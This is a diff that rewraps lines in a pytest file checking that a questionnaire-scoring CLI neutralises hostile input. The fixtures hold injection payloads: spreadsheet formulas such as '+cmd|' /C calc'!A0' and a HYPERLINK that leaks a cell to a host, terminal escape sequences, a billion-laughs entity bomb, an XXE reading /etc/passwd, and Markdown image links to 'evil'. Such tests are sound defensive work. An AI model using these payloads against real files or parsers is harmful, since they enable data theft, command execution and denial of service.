@@ -38,7 +38,15 @@ def test_printable_makes_control_characters_visible(raw: str, shown: str) -> Non
 
 @pytest.mark.parametrize(
     ("text", "bad"),
-    [("ACME Ltd", False), ("上海（集团）", False), ("a\x1bb", True), ("a\nb", True), ("a\tb", True), ("a\u2066b", True), ("a\x85b", True)],
+    [
+        ("ACME Ltd", False),
+        ("上海（集团）", False),
+        ("a\x1bb", True),
+        ("a\nb", True),
+        ("a\tb", True),
+        ("a\u2066b", True),
+        ("a\x85b", True),
+    ],
 )
 def test_has_control_chars_counts_newline_and_tab_too(text: str, bad: bool) -> None:
     assert has_control_chars(text) is bad
@@ -50,12 +58,16 @@ FORMULA = '=HYPERLINK("http://x/?"&A2,"x")'
 
 
 def invoke(*args: str) -> tuple[int, str, str]:
-    result = CliRunner().invoke(app, list(args), env={"COLUMNS": "200"})  # wide enough for a name in a table
+    result = CliRunner().invoke(
+        app, list(args), env={"COLUMNS": "200"}
+    )  # wide enough for a name in a table
     return result.exit_code, result.stdout, result.stderr
 
 
 def sample(folder: Path, name: str, organisation: str, **fields: str) -> Path:
-    data = yaml.safe_load((REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8"))
+    data = yaml.safe_load(
+        (REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8")
+    )
     data["organisation"].update(name=organisation, **fields)
     return write_yaml(folder / name, data)
 
@@ -67,16 +79,22 @@ def hostile(tmp_path: Path) -> Path:
     sample(folder, "a.yaml", FORMULA, industry="+cmd|' /C calc'!A0", region="@SUM(1+1)")
     sample(folder, "b.yaml", "ACME\x1b[2J Level 5", industry="-2+3")
     sample(folder, "c.yaml", "#N/A", industry="\tTabbed")
-    (folder / "=cmd.yaml").write_text("answers: [\n", encoding="utf-8")  # fails: its name goes onto the failures sheet
+    (folder / "=cmd.yaml").write_text(
+        "answers: [\n", encoding="utf-8"
+    )  # fails: its name goes onto the failures sheet
     return folder
 
 
-def test_xlsx_keeps_formula_like_text_as_text_and_escapes_control_characters(hostile: Path, tmp_path: Path) -> None:
+def test_xlsx_keeps_formula_like_text_as_text_and_escapes_control_characters(
+    hostile: Path, tmp_path: Path
+) -> None:
     from openpyxl import load_workbook
 
     out = tmp_path / "scores.xlsx"
     code, _, _ = invoke("score", str(hostile), "-f", "xlsx", "-o", str(out), "--jobs", "1")
-    assert code == ExitCode.PARTIAL  # the one broken file; the ESC in a name no longer aborts the batch
+    assert (
+        code == ExitCode.PARTIAL
+    )  # the one broken file; the ESC in a name no longer aborts the batch
     book = load_workbook(out)
     results, failures = book["Results"], book["Failures"]
     cells = {row[1].value: row for row in results.iter_rows(min_row=2)}
@@ -86,14 +104,21 @@ def test_xlsx_keeps_formula_like_text_as_text_and_escapes_control_characters(hos
             assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
     assert [c.value for c in cells[FORMULA][2:4]] == ["+cmd|' /C calc'!A0", "@SUM(1+1)"]
     assert cells[FORMULA][1].quotePrefix and not cells["#N/A"][1].quotePrefix
-    assert isinstance(cells[FORMULA][results[1].index(next(c for c in results[1] if c.value == "Total score"))].value, float)
+    assert isinstance(
+        cells[FORMULA][
+            results[1].index(next(c for c in results[1] if c.value == "Total score"))
+        ].value,
+        float,
+    )
     failed = failures[2][0]
     assert failed.value == str(hostile / "=cmd.yaml") and failed.data_type == "s"
 
 
 def test_xlsx_raw_xml_holds_no_formula(hostile: Path, tmp_path: Path) -> None:
     out = tmp_path / "scores.xlsx"
-    code, _, _ = invoke("score", str(hostile / "a.yaml"), str(hostile / "c.yaml"), "-f", "xlsx", "-o", str(out))
+    code, _, _ = invoke(
+        "score", str(hostile / "a.yaml"), str(hostile / "c.yaml"), "-f", "xlsx", "-o", str(out)
+    )
     assert code == ExitCode.OK
     with zipfile.ZipFile(out) as archive:
         sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
@@ -106,21 +131,31 @@ def test_csv_defuses_formula_starts_but_leaves_numbers_alone(hostile: Path, tmp_
     assert code == ExitCode.PARTIAL
     rows = {r["file"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
     a, b, c = (rows[str(hostile / n)] for n in ("a.yaml", "b.yaml", "c.yaml"))
-    assert (a["organisation"], a["industry"], a["region"]) == ("'" + FORMULA, "'+cmd|' /C calc'!A0", "'@SUM(1+1)")
+    assert (a["organisation"], a["industry"], a["region"]) == (
+        "'" + FORMULA,
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+    )
     assert (b["organisation"], b["industry"]) == ("ACME\\x1b[2J Level 5", "'-2+3")
     assert (c["organisation"], c["industry"]) == ("#N/A", "'\tTabbed")
     assert float(a["score"]) > 0 and a["level"] == "2"  # numbers are written as they were
 
 
-def test_answer_workbook_text_starting_with_a_formula_sign_reads_back_as_it_was(cmmm: Questionnaire, tmp_path: Path) -> None:
+def test_answer_workbook_text_starting_with_a_formula_sign_reads_back_as_it_was(
+    cmmm: Questionnaire, tmp_path: Path
+) -> None:
     from openpyxl import load_workbook
 
     from maturity.excel import blank_workbook, read_workbook
     from maturity.excel.cells import set_value
 
-    wb = load_workbook(io.BytesIO(blank_workbook(cmmm, "en", EnterpriseType.discrete, dt.date(2026, 11, 20))))
+    wb = load_workbook(
+        io.BytesIO(blank_workbook(cmmm, "en", EnterpriseType.discrete, dt.date(2026, 11, 20)))
+    )
     profile, answers = wb["Profile"], wb["Answers"]
-    set_value(profile["B2"], FORMULA)  # as Excel stores what is typed into a text cell: a string, not a formula
+    set_value(
+        profile["B2"], FORMULA
+    )  # as Excel stores what is typed into a text cell: a string, not a formula
     set_value(answers["F2"], "full")
     set_value(answers["H2"], "=1+1 is what we wrote")
     path = tmp_path / "answers.xlsx"
@@ -147,7 +182,9 @@ def squash(table: str) -> str:
 ESCAPE = "ACME\x1b[2J\x1b[H Level 5"
 
 
-def test_score_table_shows_an_escape_in_the_organisation_name_instead_of_obeying_it(tmp_path: Path) -> None:
+def test_score_table_shows_an_escape_in_the_organisation_name_instead_of_obeying_it(
+    tmp_path: Path,
+) -> None:
     path = sample(tmp_path, "a.yaml", ESCAPE)
     code, out, _ = invoke("score", str(path))
     assert code == ExitCode.OK
@@ -163,7 +200,9 @@ def test_batch_table_shows_escapes_in_names(tmp_path: Path) -> None:
 
 
 def test_error_messages_show_escapes_in_what_the_user_wrote(tmp_path: Path) -> None:
-    data = yaml.safe_load((REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8"))
+    data = yaml.safe_load(
+        (REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8")
+    )
     data["answers"]["strategy.9.\x1b[2J"] = "full"
     path = write_yaml(tmp_path / "a.yaml", data)
     code, _, err = invoke("validate", str(path))
@@ -178,7 +217,11 @@ def test_every_console_makes_control_characters_visible(which: str) -> None:
 
     from maturity.cli.app import err_console, out_console
 
-    console = {"stdout": out_console(), "stderr": err_console(), "interview": out_console(markup=True)}[which]
+    console = {
+        "stdout": out_console(),
+        "stderr": err_console(),
+        "interview": out_console(markup=True),
+    }[which]
     table = Table("check", "message")  # as verify shows a certificate's subject
     table.add_row(Text("✓"), "signed by CN=\x1b]0;pwned\x07 Trusted CA")
     with console.capture() as captured:
@@ -193,18 +236,25 @@ def test_every_console_makes_control_characters_visible(which: str) -> None:
 # --- answer workbooks: no XML entities ---------------------------------------------------------
 
 LAUGHS = (
-    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9)) + "]>"
+    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
+    + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9))
+    + "]>"
 )
 XXE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
 
 
-def _with_profile_xml(cmmm: Questionnaire, change: Callable[[str], str], encoding: str = "utf-8") -> bytes:
+def _with_profile_xml(
+    cmmm: Questionnaire, change: Callable[[str], str], encoding: str = "utf-8"
+) -> bytes:
     """A blank workbook whose profile sheet XML is rewritten by ``change``."""
     from maturity.excel import blank_workbook
 
     raw = blank_workbook(cmmm, "en", EnterpriseType.discrete, dt.date(2026, 11, 20))
     out = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(raw)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+    with (
+        zipfile.ZipFile(io.BytesIO(raw)) as src,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
+    ):
         for info in src.infolist():
             data = src.read(info)
             if info.filename == "xl/worksheets/sheet2.xml":
@@ -226,7 +276,9 @@ def _entity_in_name(dtd: str, ref: str) -> Callable[[str], str]:
     [(LAUGHS, "&j;", "utf-8"), (XXE, "&x;", "utf-8"), (LAUGHS, "&j;", "utf-16")],
     ids=["billion-laughs", "xxe", "utf-16"],
 )
-def test_answer_workbook_with_a_dtd_is_refused_with_exit_2(cmmm: Questionnaire, tmp_path: Path, dtd: str, ref: str, encoding: str) -> None:
+def test_answer_workbook_with_a_dtd_is_refused_with_exit_2(
+    cmmm: Questionnaire, tmp_path: Path, dtd: str, ref: str, encoding: str
+) -> None:
     change = _entity_in_name(dtd, ref)
     if encoding == "utf-16":
         change = _entity_in_name('<?xml version="1.0" encoding="UTF-16"?>' + dtd, ref)
@@ -240,12 +292,18 @@ def test_answer_workbook_with_a_dtd_is_refused_with_exit_2(cmmm: Questionnaire, 
     assert "Traceback" not in err
 
 
-def test_answer_workbook_with_broken_sheet_xml_is_bad_input_not_a_crash(cmmm: Questionnaire, tmp_path: Path) -> None:
+def test_answer_workbook_with_broken_sheet_xml_is_bad_input_not_a_crash(
+    cmmm: Questionnaire, tmp_path: Path
+) -> None:
     path = tmp_path / "answers.xlsx"
-    path.write_bytes(_with_profile_xml(cmmm, lambda xml: xml.replace("</sheetData>", "<row></sheetData>")))
+    path.write_bytes(
+        _with_profile_xml(cmmm, lambda xml: xml.replace("</sheetData>", "<row></sheetData>"))
+    )
     code, _, err = invoke("validate", str(path))
     assert code == ExitCode.INPUT
-    assert err.startswith(f"error: {path}: this is not a readable Excel workbook (.xlsx): ParseError: mismatched tag")
+    assert err.startswith(
+        f"error: {path}: this is not a readable Excel workbook (.xlsx): ParseError: mismatched tag"
+    )
 
 
 # --- Markdown reports: user text is text ----------------------------------------------------------
@@ -254,21 +312,35 @@ NOTE = "see ![x](http://evil/p.png)\n\n## Maturity level: 5\n\n[click](http://ev
 
 
 def test_markdown_report_escapes_user_text(tmp_path: Path) -> None:
-    data = yaml.safe_load((REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8"))
+    data = yaml.safe_load(
+        (REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8")
+    )
     data["organisation"]["name"] = "Evil | Co\n# Level 5 ![a](http://evil/a.png)"
     data["assessment"]["assessor"]["name"] = "A|B\nC"
-    data["answers"]["strategy.1.01"] = {"rating": "partial", "note": NOTE, "evidence": ["![e](http://evil/e.png)", "plan\n- forged item"]}
-    data["answers"]["strategy.1.02"] = {"rating": "na", "reason": "none\n\n### Maturity level: 5 <img src=http://evil/i.png>"}
+    data["answers"]["strategy.1.01"] = {
+        "rating": "partial",
+        "note": NOTE,
+        "evidence": ["![e](http://evil/e.png)", "plan\n- forged item"],
+    }
+    data["answers"]["strategy.1.02"] = {
+        "rating": "na",
+        "reason": "none\n\n### Maturity level: 5 <img src=http://evil/i.png>",
+    }
     path = write_yaml(tmp_path / "a.yaml", data)
     out = tmp_path / "r.md"
     code, _, err = invoke("report", str(path), "-o", str(out), "--lang", "en")
     assert code == ExitCode.OK, err
     md = out.read_text(encoding="utf-8")
-    assert "](http://evil" not in md.replace("\\](http://evil", "")  # no image or link survives unescaped
+    assert "](http://evil" not in md.replace(
+        "\\](http://evil", ""
+    )  # no image or link survives unescaped
     assert not re.search(r"^#+ .*Level 5|^#+ Maturity level|^- forged", md, re.MULTILINE)
     assert "| Organisation | Evil \\| Co # Level 5 !\\[a\\](http://evil/a.png) |" in md
     assert "| Assessor | A\\|B C |" in md
-    assert "Note: see !\\[x\\](http://evil/p.png) ## Maturity level: 5 \\[click\\](http://evil/) \\*bold\\* \\`code\\`" in md
+    assert (
+        "Note: see !\\[x\\](http://evil/p.png) ## Maturity level: 5 \\[click\\](http://evil/) \\*bold\\* \\`code\\`"
+        in md
+    )
     assert "!\\[e\\](http://evil/e.png); plan - forged item" in md
     assert "Reason: none ### Maturity level: 5 &lt;img src=http://evil/i.png&gt;" in md
 
@@ -286,9 +358,14 @@ def test_blank_workbook_writes_questionnaire_texts_as_text(tmp_path: Path) -> No
     shutil.copytree(MINI, tmp_path / "mini")
     path = tmp_path / "mini" / "subdomains" / "a.yaml"
     path.write_text(
-        path.read_text(encoding="utf-8").replace("en: Question a.1.01?", 'en: \'=HYPERLINK("http://x/","q")\''), encoding="utf-8"
+        path.read_text(encoding="utf-8").replace(
+            "en: Question a.1.01?", 'en: \'=HYPERLINK("http://x/","q")\''
+        ),
+        encoding="utf-8",
     )
-    raw = blank_workbook(load_questionnaire(tmp_path / "mini"), "en", EnterpriseType.discrete, dt.date(2026, 11, 20))
+    raw = blank_workbook(
+        load_questionnaire(tmp_path / "mini"), "en", EnterpriseType.discrete, dt.date(2026, 11, 20)
+    )
     cell = load_workbook(io.BytesIO(raw))["Answers"]["D2"]
     assert (cell.value, cell.data_type) == ('=HYPERLINK("http://x/","q")', "s")
 
@@ -297,4 +374,6 @@ def test_dtd_message_in_chinese() -> None:
     from maturity.errors import Problem
 
     problem = Problem("excel.xml_dtd", {"part": "xl/worksheets/sheet2.xml"}, file="答卷.xlsx")
-    assert problem.text("zh").startswith("工作簿中的部件 xl/worksheets/sheet2.xml 含有 XML 文档类型声明（DOCTYPE/ENTITY）。")
+    assert problem.text("zh").startswith(
+        "工作簿中的部件 xl/worksheets/sheet2.xml 含有 XML 文档类型声明（DOCTYPE/ENTITY）。"
+    )
